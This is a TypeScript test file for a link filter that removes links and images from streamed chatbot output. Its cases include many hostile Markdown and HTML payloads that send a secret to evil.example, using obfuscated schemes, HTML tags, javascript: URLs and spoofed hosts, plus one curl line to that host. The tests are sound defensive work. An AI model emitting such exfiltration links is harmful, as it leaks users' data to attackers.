import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { marked, type Token, type Tokens } from 'marked';
import type { ChatMessage, Passage } from '../../llm/chat-model.js';
import { LinkFilter } from './link-filter.js';
import { LinkPolicy } from './link-policy.js';

const passage = {
  title: 'T',
  text: 'Ask at https://docs.shop.example/help or evil.example: https://evil.example/c',
} as Passage;
const messages: ChatMessage[] = [
  { role: 'system', content: 'Our site is https://shop.example/home. Logo: https://cdn.example/logo.png' },
  { role: 'assistant', content: 'https://assistant.example/x' },
  { role: 'tool', content: 'https://tool.example/x' },
  { role: 'user', content: 'What about www.given.example/page?' },
];
const policy = new LinkPolicy(messages, [passage]);

function run(chunks: readonly string[]): string {
  const filter = new LinkFilter(policy);
  return chunks.map((c) => filter.feed(c)).join('') + filter.flush();
}

/** Addresses that a Markdown renderer would link to or fetch. */
function reached(markdown: string): string[] {
  const found: string[] = [];
  void marked.walkTokens(marked.lexer(markdown, { gfm: true }), (token: Token) => {
    if (token.type === 'link' || token.type === 'image') found.push((token as Tokens.Link).href);
    if (token.type === 'html') found.push(...(token.raw.match(/(?:src|href|action|data|poster|srcset)\s*=/gi) ?? []));
  });
  return found.filter((href) => !isHarmless(href));
}

function isHarmless(href: string): boolean {
  if (!/^[a-z][a-z\d+.-]*:|^[/\\]|=$/i.test(href)) return true;
  if (/^mailto:[^?]*$/i.test(href)) return true;
  if (!/^https?:\/\/[^\s@]+$/i.test(href) || !URL.canParse(href)) return false;
  const { hostname, search, hash, pathname } = new URL(href);
  if (/^(?:shop|www\.given|cdn)\.example$/.test(hostname)) return true;
  return !/^(?:evil|docs\.shop)\.example$/.test(hostname) && search + hash === '' && !/\d|\/.*\/.*\/./.test(pathname);
}

const EVIL = 'https://evil.example/c?d=SECRET';
const CASES: [string, string, string?][] = [
  ['an image', `See ![the chart](${EVIL}).`, 'See the chart.'],
  ['a link', `[Click here](${EVIL}) now`, 'Click here now'],
  ['a bare address', `Go to ${EVIL} now.`, 'Go to evil.example/c now.'],
  ['an address with its full stop', 'At https://docs.shop.example/help.', 'At docs.shop.example/help.'],
  ['www.', 'Go to www.evil.example/SECRET1 now', 'Go to evil.example/SECRET1 now'],
  ['an autolink', `<${EVIL}>`, 'evil.example/c'],
  ['a title', `[a](${EVIL} "title")`, 'a'],
  ['angle brackets', `[a](<${EVIL}>)`, 'a'],
  ['an image in a link', `[![a](${EVIL})](${EVIL})`, 'a'],
  ['an empty image', `![](${EVIL})`, ''],
  ['a reference', `![a][r]\n\n[r]: ${EVIL}`],
  ['a definition on two lines', `[a]\n\n[a]:\n  ${EVIL}`],
  ['a definition without scheme', '![a][r]\n\n[r]: //evil.example/x'],
  ['no scheme', '![a](//evil.example/SECRET)', 'a'],
  ['backslashes', '[a](\\\\evil.example/x) [b](/\\evil.example)'],
  ['an escaped scheme', '[a](https:\\/\\/evil.example/x)', 'a'],
  ['entities', '[a](h&#116;tps&colon;//evil.example/x)', 'a'],
  ['hexadecimal entities', '![a](&#x68;ttps://evil.example/x)', 'a'],
  ['upper case', '[a](HTTPS://EVIL.EXAMPLE/x)', 'a'],
  ['a user name that looks like the host', '[a](https://shop.example@evil.example/x)', 'a'],
  ['a host that begins like the given one', '[a](https://shop.example.evil.example/x?y)', 'a'],
  ['a script', '[a](javascript:alert(1))', 'a'],
  ['a script with a line break', '[a](java\nscript:alert(1))'],
  ['data', '![a](data:image/svg+xml;base64,PHN2Zz4=)', 'a'],
  ['HTML', `<img src="${EVIL}">text`, 'text'],
  ['HTML on two lines', `<a\nhref="${EVIL}">text</a>`, 'text'],
  ['HTML without quotes', '<img src=//evil.example/x>', ''],
  ['HTML with a slash', '<img/src=//evil.example/x>', ''],
  ['a style', '<style>@import "//evil.example"</style>', '@import "//evil.example"'],
  ['an unfinished tag', '<img src="//evil.example/x'],
  ['an unknown address with a query', 'https://other.example/?q=SECRET', 'other.example'],
  ['an address in its path', 'https://evil.example/https://evil.example/www.evil.example/x'],
  ['an address inside an address', 'hthttps://tps://evil.example/x'],
  ['an image relative to the page', '![a](/api/auth/logout) ![b](api/x)', 'a b'],
  ['an image of a given host at another address', '![a](https://cdn.example/logo.png?d=SECRET)', 'a'],
  ['addresses of an earlier answer or a tool', '[a](https://assistant.example/x?1) [b](https://tool.example/x?1)', 'a b'],
  ['an unclosed code span', '`![a](https://evil.example/x)'],
  ['a fence in a list', '- a\n  ```\n![x](https://evil.example/?d)'],
  ['a fence in a comment', '<!--\n```\n-->\n\n![x](https://evil.example/?d)'],
  ['a fence with a backtick behind it', '```a`b\n![x](https://evil.example/?d)'],
  ['a link in many brackets', `[[[a]](${EVIL})](${EVIL})`],
  ['a very long text', `![${'a '.repeat(700)}](//evil.example/x)`],
  ['a number that looks like a mark', `[1](${EVIL})`, '1'],
  ['a mailto', '[mail](mailto:thief@evil.example?body=SECRET)', 'mail'],
  ['a scheme in two pieces', 'ht[tps://evil.example/?d=SECRET1](x:y)', 'ht tps://evil.example/?d=SECRET1'],
  ['a scheme around a tag', 'http<img x>s://evil.example/?a=1'],
  ['a host behind a tag', 'https://shop.example<img x>.evil.example/?a=1'],
  ['a host in a link', 'https://shop.example[.evil.example/?a=1](x:y)'],
  ['www behind a link', '[www](x:y).evil.example/1'],
  ['a link in a title', `[a [b](c)](d "![x](${EVIL})")`],
  ['an image in a destination', `[a [b](c)](d(![x](${EVIL})))`],
  ['an image behind a label', '[]:![a](data:image/svg+xml;base64,PHN2Zz4=)'],
  ['a fence in another one', '~~~\n```\n~~~\n![x](https://evil.example/?d)'],
  ['a fence that closes another one', 'a\n  ```\nb\n```\n![x](https://evil.example/?d)'],
  ['ftp', 'ftp://evil.example/SECRET1', 'evil.example/SECRET1'],
]; // prettier-ignore

const HOSTILE = CASES.map(([name, text, out]) => [name, text, out ?? null] as const);

const KEPT: [string, string][] = [
  ['links that the system prompt gave', '[Home](https://shop.example/home) and https://shop.example/a?b=1.'],
  ['links that the user gave', 'See https://www.given.example/page or www.given.example/x.'],
  ['the image that was given', '![Logo](https://cdn.example/logo.png)'],
  ['plain addresses that are in no document', 'Read https://other.example/docs and [this](https://other.example).'],
  ['links inside the page', '[below](#prices)'],
  ['code', 'Call:\n```sh\ncurl https://evil.example/x\n```\nDone.'],
  ['marks, brackets and signs', 'A [1][2], an [aside], a < b, x![0], 3 > 2: `a[1]` ~ ~~x~~ (see [3]).'],
  ['incomplete syntax of all kinds', 'wwwhat htt https: ![ [ ]( <'.replace('](', '] (')],
];

describe('LinkFilter', () => {
  it.each(HOSTILE)('leaves no active link or image in: %s', (_, text, expected) => {
    const out = run([text]);
    expect(reached(out)).toEqual([]);
    if (expected !== null) expect(out).toBe(expected);
    expect(out).not.toMatch(/[?&=]d?=?SECRET\b(?!1)/);
  });

  it('removes links that the test parser finds in the input', () => {
    expect(HOSTILE.filter(([, text]) => reached(text).length > 0).length).toBeGreaterThan(30);
  });

  it.each(KEPT)('keeps %s', (_, text) => expect(run([text])).toBe(text));

  it('gives the same output for every split of the stream, without active links', () => {
    const part = fc.constantFrom(
      ...HOSTILE.map(([, text]) => text).filter((text) => text.length < 300),
      ...KEPT.map(([, text]) => text),
      '[', ']', '(', ')', '!', '<', '>', '`', '```', '~~~', '> ', '- ', '\n', '\n```\n', ' ', 'https://', '//', 'evil.example', '"', '\\', ']:', 'www.',
    ); // prettier-ignore
    fc.assert(
      fc.property(fc.array(part, { maxLength: 6 }), fc.integer({ min: 1, max: 12 }), (parts, size) => {
        const text = parts.join('');
        const out = run([text]);
        expect(run(text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [])).toBe(out);
        expect(reached(out)).toEqual([]);
      }),
      { numRuns: 1_000 },
    );
  });

  it('holds back only text that may be part of a link', () => {
    const filter = new LinkFilter(policy);
    expect(filter.feed('Plain text, as it comes. ')).toBe('Plain text, as it comes. ');
    expect(filter.feed('A [link')).toBe('A ');
    expect(filter.feed('] and')).toBe('[link] and');
  });
});
